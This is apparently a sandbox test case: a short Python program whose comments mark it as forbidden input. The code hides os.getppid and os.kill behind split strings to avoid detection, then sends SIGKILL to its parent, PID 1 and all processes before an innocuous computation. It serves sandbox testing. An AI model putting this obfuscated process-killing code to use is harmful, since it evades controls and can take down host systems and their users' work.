# Tries: kills its parent, all and the first process by a name that no table knows
# Comes to: each is refused
# Verdict: legal_inputs/forbidden
# Unisolated: * -- with its own user's rights and no layer, it reaches the sandbox itself
# Reach: outside
import os
names = {name: value for name, value in zip(dir(os), map(os.__getattribute__, dir(os)))}
for target in (names["getp" + "pid"](), 1, -1):
    try:
        names["ki" + "ll"](target, 9)
    except ProcessLookupError:
        pass
n = int(input())
total = 0
for k in range(n):
    total = (total * 7 + k) % 1009
print(total)
